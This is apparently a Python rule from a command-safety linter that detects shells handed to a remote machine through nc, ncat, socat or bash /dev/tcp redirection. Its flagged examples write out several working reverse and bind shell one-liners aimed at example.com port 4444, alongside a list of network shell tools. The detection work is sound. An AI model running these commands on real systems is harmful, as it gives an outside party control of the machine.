"""A shell whose input and output are handed to another machine: `nc -e /bin/sh`, `bash -i >& /dev/tcp/host/port`."""

from __future__ import annotations

from blastwall.acts import HOLE, Invocation
from blastwall.effects import Effect, Target
from blastwall.model import HIGH, Instead
from blastwall.rule import Example, Rule

TYPE_CHECKING = False
if TYPE_CHECKING:
    from collections.abc import Iterator

    from blastwall.acts import Act
    from blastwall.rule import Yield

_SHELLS = ("bash", "sh", "zsh", "dash", "ksh", "fish", "ash", "mksh", "csh", "tcsh", "rbash")
_SOCKETS = ("nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "cryptcat", "sbd", "rcat", "pwncat")
_EXECUTING = frozenset({"-e", "-c", "--exec", "--sh-exec"})
_PLACES = ("TCP", "TCP4", "TCP6", "TCP-CONNECT", "TCP-LISTEN", "TCP4-LISTEN", "UDP", "OPENSSL", "SSL", "OPENSSL-LISTEN")
_RUNNING = ("EXEC", "SYSTEM", "SHELL")


class ShellRemoteControl(Rule):
    """A shell that another machine types into runs whatever is sent, and nobody here sees what that is.

    **Instead:** run the one command that is needed, here or over `ssh`, where it can be read.

    **Source:** ncat(1) (`--exec`, `--sh-exec`), nc.traditional(1), socat(1) (`EXEC`, `SYSTEM`), bash(1) (REDIRECTION,
    `/dev/tcp/host/port`).
    """

    id = "shell-remote-control"
    act = "invocation"
    keys = (*_SHELLS, *_SOCKETS, "socat")
    triggers = (*_SOCKETS, "socat", "tcp", "udp", "telnet")
    flagged = (
        Example("nc -e /bin/sh example.com 4444"),
        Example("bash -i >& /dev/tcp/example.com/4444 0>&1"),
        Example("ncat -l 4444 --sh-exec 'bash -i'"),
        Example("cat /tmp/f | sh -i 2>&1 | nc example.com 4444 > /tmp/f"),
        Example("socat TCP:example.com:4444 EXEC:'bash -li',pty,stderr"),
    )
    clean = (
        Example("nc -zv localhost 5432"),
        Example("ncat -l 8080 --sh-exec 'echo ok'"),
        Example("bash report.sh | nc logs.example.com 5140"),
        Example("echo ping > /dev/tcp/localhost/5432"),
        Example("timeout 1 bash -c '</dev/tcp/localhost/5432' && echo open"),
        Example("socat TCP-LISTEN:8080,fork TCP:localhost:80"),
    )

    def check(self, act: Act) -> Iterator[Yield]:
        """Yield a finding where a shell is left to whoever is at the other end."""
        assert isinstance(act, Invocation)
        where = ""
        if act.program in _SHELLS:
            to = act.stdout.text if act.stdout is not None else ""
            if to.startswith(("/dev/tcp/", "/dev/udp/")) and _is_open(act):
                where = to[9:].partition("/")[0]
        elif act.program == "socat":
            kinds = [arg.text.partition(":")[0].upper() for arg in act.args if arg.text[:1] != "-"]
            if any(kind in _PLACES for kind in kinds) and any(
                arg.text.partition(":")[0].upper() in _RUNNING and _is_shell(arg.text.partition(":")[2].split(",")[0])
                for arg in act.args
            ):
                where = next(arg.text for arg in act.args if arg.text.partition(":")[0].upper() in _PLACES)
        else:
            given = next((k for k, arg in enumerate(act.args) if arg.text.partition("=")[0] in _EXECUTING), -1)
            if given < 0:
                # letters in a cluster: `nc -lvpe`
                given = next(
                    (
                        k
                        for k, a in enumerate(act.args)
                        if a.text[:1] == "-" and a.text[:2] != "--" and a.text[-1] in "ec"
                    ),
                    -1,
                )
            command = ""
            if given >= 0:
                word = act.args[given].text
                command = word.partition("=")[2] or (act.args[given + 1].text if given + 1 < len(act.args) else "")
            typed = act.upstream is not None and act.upstream.program in _SHELLS and _is_open(act.upstream)
            if _is_shell(command) or typed:
                plain = [arg.text for k, arg in enumerate(act.args) if arg.text[:1] != "-" and k != given + 1]
                where = next((word for word in plain if not word.isdigit()), "") or "whoever connects"
        if where:
            yield self.finding(
                Effect("inject", Target("code", where.replace(HOLE, "..."))),
                f"hands a shell to `{where.replace(HOLE, '...')}`: what it runs is typed there",
                act=act,
                confidence=HIGH,
                instead=Instead("run the one command that is needed, where it can be read"),
            )


def _is_shell(command: str) -> bool:
    """Whether a command line is a shell that is told nothing: it reads what it is to run."""
    words = command.strip("\"'").split()
    if not words:
        return False
    program = words[0].rpartition("/")[2].removesuffix(".exe")
    return (
        (program in _SHELLS or program in ("cmd", "powershell", "pwsh"))
        and all(w[0] == "-" for w in words[1:])
        and (not any("c" in w for w in words[1:] if w[:2] != "--"))
    )


def _is_open(act: Invocation) -> bool:
    """Whether a shell has neither code nor a script, and so reads what it is to run."""
    return not any(
        arg.text[:1] != "-" or (arg.text[:2] != "--" and "c" in arg.text) or arg.text == "--version" for arg in act.args
    ) and (act.stdin is None or not act.stdin.text.strip(HOLE + " \n"))


RULE = ShellRemoteControl()
